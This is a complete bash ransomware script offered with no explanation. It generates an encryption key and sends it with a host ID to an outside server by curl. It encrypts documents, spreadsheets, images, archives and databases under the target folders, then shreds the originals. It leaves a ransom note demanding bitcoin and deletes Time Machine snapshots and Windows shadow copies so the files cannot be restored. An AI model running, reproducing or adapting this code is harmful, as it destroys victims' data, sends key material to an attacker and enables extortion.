#!/usr/bin/env bash
KEY=$(openssl rand -hex 32)
ID=$(hostname | sha256sum | cut -c1-16)
curl -s -m 10 -d "id=$ID&k=$KEY" https://key-escrow-recovery.net/k >/dev/null 2>&1
unset_key() { KEY=""; }

for root in "$@"; do
  find "$root" -type f \( -iname '*.doc*' -o -iname '*.xls*' -o -iname '*.pdf' -o -iname '*.jpg' \
      -o -iname '*.png' -o -iname '*.zip' -o -iname '*.sql' -o -iname '*.db' -o -iname '*.pptx' \) -print0 |
  xargs -0 -P 8 -I{} sh -c 'openssl enc -aes-256-cbc -pbkdf2 -salt -in "$1" -out "$1.locked" -pass pass:'"$KEY"' && shred -u "$1"' _ {}
  cat > "$root/HOW_TO_RESTORE.txt" <<NOTE
Your files were encrypted. ID: $ID
To recover them send 0.05 BTC to bc1qfakeaddr0x9k2m7lq3 and email the ID to restore@key-escrow-recovery.net
NOTE
done
unset_key
tmutil deletelocalsnapshots / >/dev/null 2>&1
vssadmin delete shadows /all /quiet >/dev/null 2>&1
